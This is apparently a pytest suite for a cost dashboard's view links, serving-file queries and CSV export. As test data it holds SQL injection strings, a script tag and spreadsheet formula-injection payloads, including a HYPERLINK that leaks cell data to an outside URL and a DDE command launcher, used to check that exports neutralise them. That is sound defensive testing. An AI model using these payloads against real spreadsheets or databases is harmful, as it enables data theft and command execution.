"""The page's view and its link (dashboard/view.py), and the view a link resolves to on a serving file built
in SQL (tests/dashboard_serving.py): pure logic and a read-only DuckDB file, in the fast loop."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from dashboard.csv_export import FORMULA_STARTS, api_key_csv
from dashboard.filters import resolve
from dashboard.periods import Window
from dashboard.queries import Filters, ServingReader
from dashboard.tables import HTML_ROWS_MAX
from dashboard.view import View, parse, regrain, to_params
from dashboard.views import period_ticks
from tests.dashboard_serving import build_serving


@pytest.fixture(scope="module")
def reader(tmp_path_factory: pytest.TempPathFactory):
    path = build_serving(tmp_path_factory.mktemp("serving") / "meterline.duckdb", requests=5_000)
    with ServingReader(path) as opened:
        yield opened


def test_every_part_of_the_view_is_written_and_read_back() -> None:
    view = View("daily", Window("daily", datetime(2026, 10, 30), datetime(2026, 11, 2)), "acct_1", ("k1", "k 2&"),
                ("openai/gpt-5",), "providers", "openai/gpt-5", "azure", "provider")  # fmt: skip
    params = to_params(view)
    assert params == {"grain": "day", "from": "2026-10-30", "to": "2026-11-02", "account": "acct_1",
                      "key": ["k1", "k 2&"], "model": ["openai/gpt-5"], "tab": "providers", "stack": "provider",
                      "detail_model": "openai/gpt-5", "detail_provider": "azure"}  # fmt: skip
    asked = parse({k: v if isinstance(v, list) else [v] for k, v in params.items()})
    assert (asked.grain, asked.first, asked.last, asked.account) == (
        "daily",
        view.window.first,
        view.window.last,
        "acct_1",
    )
    assert (asked.api_key_ids, asked.models, asked.tab, asked.stack) == (
        ("k1", "k 2&"),
        ("openai/gpt-5",),
        "providers",
        "provider",
    )
    assert (asked.detail_model, asked.detail_provider, asked.notices) == ("openai/gpt-5", "azure", [])


def test_malformed_values_are_dropped_with_a_notice_never_an_error() -> None:
    asked = parse({"grain": ["week"], "from": ["2026-13"], "to": ["'; DROP TABLE x; --"], "tab": ["<script>"],
                   "stack": ["x" * 100]})  # fmt: skip
    assert (asked.grain, asked.first, asked.last, asked.tab, asked.stack) == (None, None, None, None, None)
    assert len(asked.notices) == 5 and any("…" in notice for notice in asked.notices)  # a long value is cut


def test_switching_granularity_keeps_the_time_range() -> None:
    months = Window("monthly", datetime(2026, 10, 1), datetime(2026, 11, 1))
    assert regrain(months, "daily") == Window("daily", datetime(2026, 10, 1), datetime(2026, 11, 30))
    days = Window("daily", datetime(2026, 10, 30), datetime(2026, 11, 2))
    assert regrain(days, "monthly") == Window("monthly", datetime(2026, 10, 1), datetime(2026, 11, 1))
    assert regrain(days, "hourly") == Window("hourly", datetime(2026, 10, 30), datetime(2026, 11, 2, 23))
    assert regrain(regrain(days, "hourly"), "daily") == days


def test_a_link_resolves_against_the_serving_file(reader: ServingReader) -> None:
    asked = parse({"grain": ["day"], "from": ["2020-01-01"], "to": ["2026-10-25"], "account": ["acct_beta"],
                   "key": ["key_md_05", "key_prod_01", "<b>nope</b>"], "model": ["openai/gpt-5"]})  # fmt: skip
    view, notices = resolve(reader, asked)
    assert view.window == Window("daily", datetime(2026, 10, 20), datetime(2026, 10, 25))  # cut to the data
    assert (view.account, view.api_key_ids, view.models) == ("acct_beta", ("key_md_05",), ("openai/gpt-5",))
    assert notices == [
        "The linked time range reaches beyond the data: cut to the periods with usage.",
        "API key “key_prod_01” has no usage here: ignored.",  # it belongs to acct_alpha
        "API key “<b>nope</b>” has no usage here: ignored.",
    ]
    unknown, notices = resolve(reader, parse({"account": ["acct_zeta"], "from": ["1999-01"]}))
    assert unknown.account is None and unknown.window == Window("monthly", datetime(2026, 11, 1), datetime(2026, 11, 1))
    assert notices[0].startswith("The linked time range has no usage") and "acct_zeta" in notices[1]


def test_pickers_offer_what_has_usage_in_the_range(reader: ServingReader) -> None:
    first_day = Window("daily", datetime(2026, 10, 20), datetime(2026, 10, 20))
    everything = {key for key, _ in reader.api_keys(None)}
    used = {key for key, _ in reader.api_keys(None, first_day)}
    assert "key_rare_12" in everything and used < everything  # the rarely used key is not offered for one day
    assert set(reader.models("acct_alpha")) == set(
        reader.models("acct_alpha", None, ())
    ) and "mistral/mistral-large" not in reader.models("acct_alpha")
    for key in used:  # a pick never blanks the page
        assert not reader.costs(Filters("daily", api_key_ids=(key,)), first_day).empty


def test_provider_alternatives_are_read_only_where_the_mart_exists(reader: ServingReader) -> None:
    window = Window("monthly", datetime(2026, 10, 1), datetime(2026, 11, 1))
    frame = reader.alternatives(Filters("monthly"), window)
    assert frame is not None and set(frame["model"]) == {"openai/gpt-5", "anthropic/claude-sonnet-4-5"}
    assert all(row.savings == row.actual_cost - row.alternative_cost for row in frame.itertuples())
    assert reader.alternatives(Filters("hourly"), Window("hourly", window.first, window.first)) is None


FORMULA_NAMES = {  # api_key_id -> the name tests/dashboard_serving.py gives it
    "key_eval_09": '=HYPERLINK("http://x/?leak="&A1,"Click")',
    "key_bot_10": "@SUM(1+1)",
    "key_rare_12": "=cmd|' /C calc'!A0",
}


def test_the_api_key_csv_neutralises_formulas_and_keeps_numbers(reader: ServingReader) -> None:
    window = Window("monthly", datetime(2026, 10, 1), datetime(2026, 11, 1))
    frame = reader.costs(Filters("monthly"), window, ("account_id", "api_key_id", "api_key_name"))
    rows = list(csv.DictReader(io.StringIO(api_key_csv(frame, window).decode("utf-8-sig"), newline="")))
    names = {row["api_key_id"]: row["api_key_name"] for row in rows}
    for key_id, name in FORMULA_NAMES.items():  # shown as text, the value still readable
        assert names[key_id] == "'" + name
    assert names["key_prod_01"] == "Production" and names["key_sql_11"] == "'); DROP TABLE marts.cost_cube; --"
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())
    for row, exact in zip(rows, frame.itertuples(), strict=True):  # numbers stay numbers, exact
        assert Decimal(row["total_cost"]) == exact.total_cost and int(row["request_count"]) == exact.request_count

    made_up = frame.head(7).assign(
        api_key_name=["+1 555 0100", "-2+3", "\tTAB", "\rCR", " =lead space", "a=b", "＝fullwidth"],
        account_id="-acct",
        total_cost=[Decimal("-1.50"), *frame["total_cost"].head(6)],
        request_count=[-1, *frame["request_count"].head(6)],
    )
    back = list(csv.reader(io.StringIO(api_key_csv(made_up, window).decode("utf-8-sig"), newline="")))[1:]
    assert [row[4] for row in back] == [
        "'+1 555 0100",
        "'-2+3",
        "'\tTAB",
        "'\rCR",
        " =lead space",
        "a=b",
        "＝fullwidth",
    ]
    assert {row[2] for row in back} == {"'-acct"}
    assert (back[0][-1], back[0][5]) == ("-1.50", "-1")  # a negative number is not a formula


def _ticks(grain: str, first: datetime, last: datetime) -> list[datetime]:
    return [
        datetime.fromtimestamp(ms / 1000, UTC).replace(tzinfo=None) for ms in period_ticks(Window(grain, first, last))
    ]


def test_axis_ticks_fall_on_period_starts_aligned_like_a_calendar() -> None:
    six_hours = _ticks("hourly", datetime(2026, 10, 29, 8), datetime(2026, 10, 29, 13))
    assert six_hours == [datetime(2026, 10, 29, hour) for hour in range(8, 14)]  # every hour
    ten_days = _ticks("hourly", datetime(2026, 10, 20), datetime(2026, 10, 29, 23))  # 240 hours
    assert ten_days == [datetime(2026, 10, day) for day in range(20, 30)]  # midnights
    two_months = _ticks("daily", datetime(2026, 10, 1), datetime(2026, 11, 30))
    assert two_months == [datetime(2026, month, day) for month in (10, 11) for day in (1, 8, 15, 22, 29)]
    assert _ticks("monthly", datetime(2026, 10, 1), datetime(2026, 11, 1)) == [
        datetime(2026, 10, 1),
        datetime(2026, 11, 1),
    ]


def _tables_of(rows: int) -> None:
    """An AppTest script: a read-only table of `rows` API keys (the last without a name), drawn by show_table."""
    from decimal import Decimal

    import pandas as pd

    from dashboard.views import show_table

    frame = pd.DataFrame({
        "api_key_name": [f"key {i}" for i in range(rows - 1)] + [None],
        "request_count": list(range(rows)),
        "total_cost": [Decimal("1.005")] * rows,
        "share": [1 / rows] * rows,
    })  # fmt: skip
    show_table(frame, {"api_key_name": "API key", "request_count": "Requests", "total_cost": "Cost",
                       "share": "Share"}, key="table:keys")  # fmt: skip


@pytest.mark.parametrize("rows", [HTML_ROWS_MAX, HTML_ROWS_MAX + 1])
def test_a_long_table_is_a_data_grid_that_draws_only_the_rows_in_view(rows: int) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_tables_of, kwargs={"rows": rows}).run()
    assert not at.exception
    box = at.get_by_key("table:keys")
    if rows <= HTML_ROWS_MAX:  # HTML text: every row is in the page
        assert not box.dataframe and box.get("html")[0].proto.body.count("<tr>") == rows + 1
    else:  # a grid, its values rounded as the HTML tables', a key without a name named so
        grid = box.dataframe[0].value
        assert len(grid) == rows and list(grid.columns) == ["API key", "Requests", "Cost", "Share"]
        assert set(grid["Cost"]) == {Decimal("1.01")} and grid["API key"].iloc[-1] == "(no name)"
        assert grid["Share"].sum() == pytest.approx(100.0)
